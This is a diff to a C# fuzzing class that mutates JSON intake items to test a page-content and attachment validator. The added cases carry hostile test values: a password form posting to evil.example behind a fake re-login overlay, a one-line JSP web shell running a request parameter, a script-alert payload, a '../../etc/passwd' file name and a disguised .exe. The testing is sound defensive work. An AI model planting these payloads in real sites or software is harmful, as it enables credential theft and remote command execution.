@@ -27,7 +27,13 @@ public sealed class IntakeMutator(Random random, IReadOnlyList<JsonObject> sampl
     [
         "drop", "drop", "retype", "retype", "null", "null", "number-as-string", "huge-string", "deep-nesting", "bad-base64",
         "media-type", "control-chars", "category", "channels", "unknown-field", "id", "revision", "dates", "overrides", "image",
+        "body-reference", "trailing-newline", "file-name", "disguised-file", "deep-body", "public-page",
     ];
+
+    /// <summary>A form asking for a password and a full-page overlay: what the body policy keeps off a government page.</summary>
+    public const string FormAndOverlay =
+        "<form action=\"https://evil.example/login\"><input type=\"password\" name=\"pw\"><button>登录</button></form>"
+        + "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">请重新登录</div>";
 
     private static readonly string[] ByteMutations = ["invalid-utf8", "truncate", "duplicate-field", "raw-control", "oversized", "number-token", "content-type"];
 
@@ -120,10 +126,49 @@ public sealed class IntakeMutator(Random random, IReadOnlyList<JsonObject> sampl
                     new JsonObject { ["wechat"] = null },
                     new JsonArray(1, 2));
                 return item["overrides"]!.ToJsonString().Length.ToString(System.Globalization.CultureInfo.InvariantCulture);
+            case "body-reference":
+                return AppendToBody(item, Pick("&#1;", "&#x1;", "&#0;", "&#xFFFE;", "&#xD800;", "&#27", "&#x1F;"));
+            case "trailing-newline":
+                var named = Pick("id", "indexNumber");
+                var kept = item["id"] is JsonValue v && v.TryGetValue<string>(out var current) ? current : "fz";
+                item[named] = (named == "id" ? kept : "002482285/2026-00042") + Pick("\n", "\r\n", "\r");
+                return named;
+            case "file-name":
+                File(item)["name"] = Pick("a\r\nb.png", "fig\n1.png", new string('名', 1_000_000), "../../etc/passwd", "CON.png", " .png", "x.png.");
+                return "name";
+            case "disguised-file":
+                return Disguise(item);
+            case "deep-body":
+                return AppendToBody(item, string.Concat(Enumerable.Repeat(Pick("<div>", "<div/>", "<b>", "<ul><li>"), Pick(65, 1_000, 45_000))));
+            case "public-page":
+                return AppendToBody(item, FormAndOverlay);
             default:
                 AddImage(item);
                 return "image";
         }
+    }
+
+    private static string AppendToBody(JsonObject item, string markup)
+    {
+        if (item["body"] is JsonObject body && body["content"] is JsonValue content && content.TryGetValue<string>(out var text))
+        {
+            body["content"] = text + markup;
+            return markup.Length > 40 ? markup[..40] + "…" : markup;
+        }
+
+        return "no body";
+    }
+
+    /// <summary>A file whose name says something other than its declared type: a JSP as text, HTML as an image.</summary>
+    private string Disguise(JsonObject item)
+    {
+        var (list, name, type, content) = Pick(
+            ("attachments", "shell.jsp", "text/plain", "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
+            ("images", "x.html", "image/png", "<html><script>alert(1)</script></html>"),
+            ("attachments", "report.pdf.exe", "application/pdf", "MZ\u0090\u0000"));
+        var file = new JsonObject { ["name"] = name, ["mediaType"] = type, ["contentBase64"] = Convert.ToBase64String(Encoding.UTF8.GetBytes(content)) };
+        item[list] = new JsonArray(file);
+        return name;
     }
 
     private (byte[] Body, string? ContentType) MutateBytes(byte[] body, string? contentType, string kind)
